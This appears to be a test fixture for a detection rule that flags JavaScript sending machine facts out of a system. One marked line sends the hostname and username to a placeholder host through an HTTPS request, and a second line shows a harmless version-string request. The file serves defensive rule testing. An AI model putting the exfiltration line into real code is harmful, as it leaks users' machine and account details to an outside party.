const os = require("os"), https = require("https");
const q = `${os.hostname()}.${os.userInfo().username}`;
// ruleid: exfiltration-machine-facts-js
https.get("https://a.invalid/?q=" + q);
// ok: exfiltration-machine-facts-js
https.get("https://a.invalid/?v=" + version);
